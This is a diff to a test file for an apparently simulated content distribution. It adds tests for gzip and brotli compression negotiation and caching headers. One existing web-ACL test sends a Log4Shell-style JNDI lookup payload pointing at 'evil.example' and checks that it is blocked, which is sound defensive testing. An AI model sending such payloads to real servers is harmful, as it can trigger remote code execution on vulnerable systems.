@@ -1,5 +1,6 @@
+import { brotliDecompressSync, gunzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
-import { SECRET, startedDistribution } from './started-distribution.ts';
+import { LONG, SECRET, startedDistribution } from './started-distribution.ts';
 
 describe('a request for the API', () => {
   it('reaches it whole, under its own name, with who asked at the end of the way it came', async () => {
@@ -82,7 +83,14 @@ describe('a request for a page', () => {
     const pages = { kind: 'bucket', bucket: 'pages' } as const;
     const { ask, asked } = await startedDistribution({
       behaviours: [
-        { pathPattern: undefined, origin: pages, methods: ['GET'], headers: {}, viewerFunction: code },
+        {
+          pathPattern: undefined,
+          origin: pages,
+          methods: ['GET'],
+          headers: {},
+          compresses: false,
+          viewerFunction: code,
+        },
       ],
     });
 
@@ -143,5 +151,45 @@ describe('the web ACL', () => {
     const { status } = await ask('POST', '/v1/sign-up', {}, `{"name":"\${jndi:ldap://evil.example}"}`);
 
     expect([status, received]).toEqual([403, []]);
+  });
+});
+
+describe('an answer from the bucket', () => {
+  it.each([
+    ['gzip', 'gzip, deflate', gunzipSync],
+    ['br', 'gzip, deflate, br', brotliDecompressSync],
+    ['br', 'br;q=0.5, gzip;q=1', brotliDecompressSync],
+    ['gzip', 'br;q=0, gzip', gunzipSync],
+  ])('is compressed as %s for a viewer who takes %s', async (coding, accepted, open) => {
+    const { ask } = await startedDistribution();
+
+    const { headers, bytes } = await ask('GET', '/long.html', { 'accept-encoding': accepted });
+
+    expect(headers).toMatchObject({ 'content-encoding': coding, vary: 'Accept-Encoding', etag: 'W/"1"' });
+    expect(headers['content-length']).toBe(String(bytes.length));
+    expect(bytes.length).toBeLessThan(LONG.length / 5);
+    expect(open(bytes).toString()).toBe(LONG);
+  });
+
+  it.each([
+    ['for a viewer who takes none', '/long.html', {}],
+    ['for a viewer who refuses it', '/long.html', { 'accept-encoding': 'gzip;q=0, zstd' }],
+    ['under a thousand bytes', '/app.js', { 'accept-encoding': 'gzip' }],
+  ])('is left as it is %s', async (_what, path, headers) => {
+    const { ask } = await startedDistribution();
+
+    const answer = await ask('GET', path, headers);
+
+    expect(answer.headers).not.toHaveProperty('content-encoding');
+    expect(answer.headers.etag).toBe('"1"');
+    expect([LONG, 'code']).toContain(answer.text);
+  });
+
+  it('is left as it is where the behaviour does not compress', async () => {
+    const { ask } = await startedDistribution({}, { compresses: false });
+
+    const { headers, text } = await ask('GET', '/long.html', { 'accept-encoding': 'gzip' });
+
+    expect([headers['content-encoding'], text]).toEqual([undefined, LONG]);
   });
 });
